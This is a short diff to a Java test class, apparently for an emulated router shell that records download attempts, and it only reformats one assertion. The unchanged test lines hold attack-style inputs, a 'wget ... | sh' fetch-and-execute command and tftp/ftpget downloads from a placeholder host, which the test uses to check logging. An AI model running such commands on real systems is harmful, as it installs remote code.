@@ -52,9 +52,7 @@ class FetchingTest {
         .endsWith("  0:00:00 ETA\n'.x' saved\nfetched\n");
     assertThat(router.run("wget -q -O - http://a.test/x | sh")).isEqualTo("fetched\n");
     assertThat(router.run("tftp -g -r x 192.0.2.1; ftpget 192.0.2.1 x y")).contains("timed out");
-    assertThat(router.downloads)
-        .contains("tftp://192.0.2.1/x x", "ftp://192.0.2.1/y x")
-        .hasSize(4);
+    assertThat(router.downloads).contains("tftp://192.0.2.1/x x", "ftp://192.0.2.1/y x").hasSize(4);
   }
 
   @Test
